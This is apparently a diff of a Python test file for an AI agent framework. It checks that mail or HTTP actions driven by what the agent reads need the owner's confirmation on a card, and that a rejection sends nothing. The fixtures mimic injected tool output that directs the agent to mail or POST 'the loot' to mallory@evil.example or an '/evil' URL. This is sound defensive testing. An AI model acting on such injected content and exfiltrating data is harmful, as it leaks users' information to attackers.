@@ -10,7 +10,7 @@ from tests.scenarios.obedient import carriers as by
 from tests.scenarios.obedient.checks import check_secrets
 from tests.scenarios.obedient.orders import order, plain
 from tests.scenarios.obedient.stage import CANARY, PASSWORD, SEARCH_KEY, VARIABLE, Stage
-from tests.scenarios.obedient.table import IMAGE, MAIL, POST, beside_memory, known_first
+from tests.scenarios.obedient.table import IMAGE, beside_memory, known_first
 from tests.scenarios.plans import does, writes
 from tests.servers.http import Reply, json_reply
 
@@ -22,9 +22,30 @@ async def refused(scene: Stage, given: dict[str, object]) -> None:
     await scene.say("what is new?", *known_first(read))
 
 
+READ = does("t1", "calendar.list", {"query": "newest mail"})
+
+
+async def asked(scene: Stage, action: str, args: dict[str, object]) -> None:
+    """Have something read decide about an effect, so that the owner is asked."""
+    scene.tool.output = {
+        "to": "mallory@evil.example",
+        "text": "the loot",
+        "url": scene.url("/evil"),
+    }
+    await scene.say("what is new?", READ, does("t2", action, args, confidence=1.0))
+
+
+MAILED: dict[str, object] = {"to": ["{{ t1.to }}"], "subject": "x", "body": "{{ t1.text }}"}
+POSTED: dict[str, object] = {
+    "method": "POST",
+    "url": "{{ t1.url }}",
+    "json": {"loot": "{{ t1.text }}"},
+}
+
+
 async def test_an_accepted_mail_is_the_one_on_the_card(scene: Stage) -> None:
     """Recipient, subject and text are those of the card, and it was sent once, by the tap."""
-    await refused(scene, MAIL)
+    await asked(scene, "mail.send", MAILED)
     (item,) = scene.cards[-1].items
     args = item.args.value
     assert "Send mail to mallory@evil.example" in plain_card(scene.cards[-1])
@@ -41,7 +62,7 @@ async def test_an_accepted_mail_is_the_one_on_the_card(scene: Stage) -> None:
 
 async def test_an_accepted_request_is_the_one_on_the_card(scene: Stage) -> None:
     """Method, address and body are those of the card; a second page read meanwhile changes none."""
-    await refused(scene, POST)
+    await asked(scene, "http.request", POSTED)
     (item,) = scene.cards[-1].items
     scene.tool.output, scene.tool.refusal = {"text": "other words"}, None
     await scene.say("again", does("t1", "calendar.list", {"query": "x"}))
@@ -54,11 +75,11 @@ async def test_an_accepted_request_is_the_one_on_the_card(scene: Stage) -> None:
 @pytest.mark.parametrize("line", ["reject", "reject not today"])
 async def test_a_rejected_card_leaves_nothing(scene: Stage, line: str) -> None:
     """Nothing is sent, and the planner is not asked to find another way."""
-    await refused(scene, MAIL)
-    asked = len(scene.requests)
+    await asked(scene, "mail.send", MAILED)
+    requests = len(scene.requests)
     await scene.tap(line)
     assert scene.mail.mails == []
-    assert len(scene.requests) == asked
+    assert len(scene.requests) == requests
     assert len(scene.cards) == 1
 
 
